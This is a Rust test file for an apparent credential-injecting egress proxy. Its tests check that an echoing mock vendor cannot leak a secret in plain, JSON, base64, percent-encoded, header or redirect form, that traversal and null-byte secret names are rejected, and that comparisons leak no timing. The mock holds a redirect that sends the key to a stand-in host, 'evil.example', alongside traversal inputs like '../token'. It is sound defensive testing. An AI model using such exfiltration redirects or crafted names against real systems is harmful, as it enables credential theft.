//! Reading a secret by every route there is: each shows `[secret]`, or nothing.

use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use http::StatusCode;
use jackfield::{
    capabilities::{Means, Window},
    egress::{Auth, Credential, Egress, EgressConfig, Policy, Rule},
    secret::Secret,
};
use jackfield_tests::twin::{Ask, Reply, Twin, Vendor};
use serde_json::json;
use url::form_urlencoded::byte_serialize;

use super::{
    probe::{Scene, TOKEN, first},
    stage::Stage,
};

/// A secret with what escapes in every encoding.
const AWKWARD: &str = "pa\"ss/wörd+42?&=%20\\";

/// A vendor that repeats the credential in a form of the guest's choice.
#[derive(Debug)]
struct Parrot;

/// The forms in which the parrot speaks.
const FORMS: [&str; 8] =
    ["plain", "json", "base64", "base64url", "shifted", "percent", "header", "location"];

impl Vendor for Parrot {
    const SPECS: &'static [(&'static str, &'static str)] = &[];

    fn answer(&self, ask: &Ask) -> Option<Reply> {
        let seen = ask.headers.get("x-key")?.as_bytes();
        let text = String::from_utf8_lossy(seen).into_owned();
        let said = match ask.path.trim_start_matches("/v1/") {
            "plain" => text.clone(),
            "json" => json!({ "error": format!("no such key: {text}") }).to_string(),
            "base64" => STANDARD.encode(seen),
            "base64url" => URL_SAFE_NO_PAD.encode(seen),
            "shifted" => STANDARD.encode([b"x", seen].concat()),
            "percent" => byte_serialize(seen).collect(),
            "header" => {
                let value = ask.headers.get("x-key")?.clone();
                return Some(Reply::empty(StatusCode::BAD_REQUEST).with("x-echo", value));
            }
            _ => {
                let value: String = byte_serialize(seen).collect();
                let to = format!("https://evil.example/?key={value}");
                let to = http::HeaderValue::try_from(to).ok()?;
                return Some(Reply::empty(StatusCode::FOUND).with("location", to));
            }
        };
        Some(Reply { body: said.into(), ..Reply::empty(StatusCode::UNAUTHORIZED) })
    }

    fn refuse(&self, status: StatusCode) -> Reply {
        Reply::empty(status)
    }
}

/// Every way in which a text may be written so that a person could have it back.
fn traces(secret: &str) -> Vec<String> {
    let json = json!(secret).to_string();
    vec![
        secret.to_owned(),
        json[1..json.len() - 1].to_owned(),
        STANDARD.encode(secret),
        URL_SAFE_NO_PAD.encode(secret),
        // The middle of it at the other alignments of base64.
        STANDARD.encode(format!("x{secret}"))[4..20].to_owned(),
        byte_serialize(secret.as_bytes()).collect(),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_vendor_that_repeats_the_credential_gives_nothing_away() {
    let scene = Scene::set_up().await;
    let parrot = Twin::launch(Parrot, 0).await.unwrap();
    let live = scene.live("one");
    for secret in [AWKWARD, TOKEN] {
        let value = Secret::new(secret.to_owned());
        let rule = Rule {
            origin: "https://api.example.com".parse().unwrap(),
            methods: vec!["GET".into()],
            paths: vec!["/v1/".into()],
            auth: Some(Auth::Fixed(Credential::Header { name: "x-key".into(), value })),
            safe_posts: Vec::new(),
            graphql: Vec::new(),
            redirect_to: Some(parrot.origin().parse().unwrap()),
        };
        let policy = Policy::new(vec![rule], Vec::new());
        let egress = Egress::new(EgressConfig::default()).client("parrot", policy.into());
        let means = Means { egress, ..live.means.clone() };
        for form in FORMS {
            let url = format!("https://api.example.com/v1/{form}");
            let ask = json!({ "ask": "send", "url": url });
            let (window, limits) = (Window::open(&means, &first()), live.connector.limits);
            let seen = scene.ask_through(&live, window, limits, ask).await.unwrap();
            let texts: Vec<&str> = seen["headers"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|header| header[1].as_str())
                .chain(seen["text"].as_str())
                .collect();
            let text = texts.join("\n");
            for trace in traces(secret) {
                assert!(!text.contains(&trace), "{form} shows {trace}: {text}");
            }
        }
        assert!(parrot.requests().iter().all(|asked| asked.header("authorization").is_none()));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_window_shows_a_secret() {
    let stage = Stage::set_up().await;
    let scene = &stage.scene;
    // Settings, the store, and the names of secrets.
    let settings = scene.ask("one", json!({ "ask": "settings" })).await.unwrap();
    assert!(!settings.to_string().contains(TOKEN));
    for name in ["token", "connection/one/token", "one\0token", "../token", "token\0", ""] {
        let got = scene.ask("one", json!({ "ask": "get", "key": name })).await;
        assert!(got.map_or(true, |value| value.is_null()), "{name:?}");
        for way in ["mac", "matches"] {
            let ask = json!({ "ask": way, "name": name, "data": "" });
            let fault = scene.ask("one", ask).await.unwrap_err();
            let code = fault.code.as_ref();
            assert!(["not-found", "forbidden"].contains(&code), "{way} {name:?}: {fault}");
        }
    }
    let environment = stage.called("bad", json!({ "attack": "environment" })).await;
    assert_eq!(environment.result.unwrap(), "0");
}

/// How often `matches` is asked of each candidate.
const ASKS: usize = 40;
/// How much longer the nearest candidate may seem than the farthest, and the other way round: the
/// noise of a machine, and far more than a comparison that stops early would show in noise alone.
const RATIO_MAX: f64 = 3.0;

#[tokio::test(flavor = "multi_thread")]
async fn how_long_matches_takes_tells_nothing() {
    let scene = Scene::set_up().await;
    let mut medians = Vec::new();
    for candidate in ["4710", "0000"] {
        let mut took = Vec::new();
        for _ in 0..ASKS {
            let ask = json!({ "ask": "matches", "name": "pin", "data": candidate, "times": 8 });
            let begin = tokio::time::Instant::now();
            assert_eq!(scene.ask("one", ask).await.unwrap(), false);
            took.push(begin.elapsed());
        }
        took.sort_unstable();
        medians.push(took[ASKS / 2].as_secs_f64());
    }
    let ratio = medians[0] / medians[1];
    assert!((1.0 / RATIO_MAX..RATIO_MAX).contains(&ratio), "{medians:?}");
}
